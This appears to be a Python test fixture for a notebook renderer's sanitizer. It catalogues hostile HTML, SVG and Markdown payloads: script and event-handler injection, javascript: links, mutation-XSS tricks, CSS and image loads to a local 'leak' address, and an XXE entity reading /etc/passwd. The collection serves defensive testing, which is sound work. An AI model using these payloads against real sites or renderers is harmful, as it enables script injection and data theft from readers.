"""Hostile rich output: what code in a sandbox may try to put into the reader's page.

Each would, where it worked, call `pwned()` or ask for ADDRESS, which the test puts in.
"""

from __future__ import annotations

ADDRESS = "http://127.0.0.1:9/leak"

_RUN = "document.documentElement.setAttribute('data-pwned', '1')"

HTML = {
    "a script": f"<script>{_RUN}</script>",
    "a script inside a table": f"<table><tr><td><script>{_RUN}</script></td></tr></table>",
    "an unclosed script": f"<script>{_RUN}//",
    "an event handler": f'<img src=x onerror="{_RUN}">',
    "an event handler after a slash": f'<img/src=x/onerror="{_RUN}">',
    "an event handler that starts by itself": f'<details open ontoggle="{_RUN}"><summary>x</summary></details>',
    "an event handler of the body": f'<body onload="{_RUN}">',
    "a javascript: link": f'<a href="javascript:{_RUN}">x</a>',
    "a javascript: link in disguise": f'<a href="jav&#x0A;ascript:{_RUN}">x</a>',
    "a frame": f'<iframe src="{ADDRESS}"></iframe>',
    "a frame with its own page": f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "an object": f'<object data="{ADDRESS}"></object><embed src="{ADDRESS}">',
    "a form": f'<form action="{ADDRESS}"><input name=a value=secret><button>Run</button></form>',
    "a picture from elsewhere": f'<img src="{ADDRESS}">',
    "a picture set from elsewhere": f'<img srcset="{ADDRESS} 2x">',
    "a video's poster": f'<video poster="{ADDRESS}"></video><audio src="{ADDRESS}" autoplay></audio>',
    "a table's background": f'<table background="{ADDRESS}"><tr><td background="{ADDRESS}">x</td></tr></table>',
    "a style sheet from elsewhere": f'<link rel=stylesheet href="{ADDRESS}"><style>@import "{ADDRESS}";</style>',
    "a style sheet for the whole page": "<style>body, .jp-Cell { display: none }</style>",
    "a style that loads": f'<div style="background: url({ADDRESS})">x</div>',
    "a style that loads, escaped": f'<div style="background: u\\72l({ADDRESS})">x</div>',
    "a style sheet that loads": f'<style>#a {{ background-image: url("{ADDRESS}") }}</style><p id="a">x</p>',
    "a style that covers the page": '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</div>',
    "a style that leaves its cell": '<div style="margin-top:-5000px;transform:translateY(-500px)">x</div>',
    "a page that reloads": f'<meta http-equiv=refresh content="0;url={ADDRESS}"><base href="{ADDRESS}">',
    "a template and slots": f"<template><script>{_RUN}</script></template>",
    "SVG inside HTML": f'<svg onload="{_RUN}"><a href="javascript:{_RUN}"><text>x</text></a></svg>',
    "MathML that changes parsers": f'<math><mtext><table><mglyph><style><img src=x onerror="{_RUN}"></style></table>',
    "a comment that ends early": f'<!--><img src=x onerror="{_RUN}">-->',
    "a title that is not one": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript>',
    "names that hide the page's own": "<p id=body name=cookie>x</p><p class='jp-Cell jp-mod-active'>x</p>",
    "CDATA": f'<![CDATA[<img src=x onerror="{_RUN}">]]>',
    "a processing instruction": f'<?xml-stylesheet href="{ADDRESS}"?><p>x</p>',
}
"""What HTML could try."""

SVG = {
    "a script": f"<script>{_RUN}</script>",
    "a script by address": f'<script href="{ADDRESS}"/>',
    "an event handler": f'<rect width="9" height="9" onclick="{_RUN}"/>',
    "foreign HTML": f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="{_RUN}"/></body>'
    "</foreignObject>",
    "a link": f'<a href="javascript:{_RUN}"><text>x</text></a>',
    "a picture from elsewhere": f'<image href="{ADDRESS}" width="9" height="9"/>',
    "a shape from elsewhere": f'<use href="{ADDRESS}#a"/>',
    "a shape from a data address": '<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/>',
    "a style sheet": f'<style>@import "{ADDRESS}"; * {{ fill: url("{ADDRESS}#a") }}</style>',
    "a style that loads": f'<rect width="9" height="9" style="fill: url({ADDRESS}#a)"/>',
    "a style that loads, escaped": f'<rect width="9" height="9" style="fill: u\\72l({ADDRESS}#a)"/>',
    "a filter that loads": f'<filter id="f"><feImage href="{ADDRESS}"/></filter><rect filter="url(#f)" width="9"/>',
    "an animation of a link": f'<a><animate attributeName="href" values="javascript:{_RUN}"/><text>x</text></a>',
    "an animation that sets a handler": f'<rect><set attributeName="onmouseover" to="{_RUN}"/></rect>',
    "a title that HTML reads as markup": f'<title><![CDATA[</title><img src=x onerror="{_RUN}">]]></title>',
    "text that HTML reads as markup": f'<text><![CDATA[</text></svg><img src=x onerror="{_RUN}">]]></text>',
    "a shape that repeats itself": '<g id="a"><use href="#b"/><use href="#b"/></g><g id="b"><use href="#a"/></g>',
}
"""What stands inside an SVG."""

SVG_DOCUMENTS = {
    "an entity that reads a file": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    '<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    "entities that grow": '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    '<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
    "HTML that calls itself SVG": f'<html><img src=x onerror="{_RUN}"></html>',
    "a handler on the drawing": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_RUN}"><g/></svg>',
}
"""Whole documents."""

MARKDOWN = {
    "raw HTML": f'<script>{_RUN}</script><img src=x onerror="{_RUN}">',
    "raw HTML in a list": f'- a\n\n  <img src=x onerror="{_RUN}">',
    "raw HTML after a fence that is none": f'``` `x\n<img src=x onerror="{_RUN}">\n```',
    "raw HTML in formulas": f'$<img src=x onerror="{_RUN}">$ and $$\n<img src=x onerror="{_RUN}">\n$$',
    "a picture": f"![x]({ADDRESS})",
    "a picture by reference": f"![x][r] ![r]\n\n[r]: {ADDRESS}",
    "a picture by reference in a quotation": f"![r]\n\n> [r]:\n>   <{ADDRESS}>",
    "a picture inside a link": f"[![x]({ADDRESS})]({ADDRESS})",
    "a link": f"[click]({ADDRESS})",
    "a link by reference": f"[click][r] and [r][]\n\n   [r]: {ADDRESS} 'title'",
    "a javascript: link": f"[click](javascript:{_RUN}) [click](<java\tscript:{_RUN}>)",
    "a javascript: autolink": "<javascript:alert(1)> <data:text/html,x>",
    "an autolink": f"<{ADDRESS}> {ADDRESS}",
    "a data: picture": "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "a comment": f'<!-- --> <!--><img src=x onerror="{_RUN}">-->',
    "a formula that links": "$\\href{javascript:alert(1)}{x}$ $\\url{x}$",
    "a formula that restyles the page": "$\\style{position:fixed}{x} \\class{jp-Cell}{y} \\bbox[url(x)]{z}$",
    "a formula that renames a macro": "$\\let\\x\\href \\def\\y{\\href} \\csname href\\endcsname{x}{y}$",
    "a formula with characters by number": "$\\unicode[x; background:url(y)]{65}$",
    "a diagram that loads pictures": f'```mermaid\nflowchart TD\nA@{{ img: "{ADDRESS}" }}\n```',
    "a diagram under another name": "~~~ mer\\&#109;aid\n~~~\n``` MERMA&#73;D\nx\n```",
}
"""What markdown could try."""


def svg(inner: str) -> str:
    """A drawing that holds `inner`."""
    return f'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">{inner}</svg>'
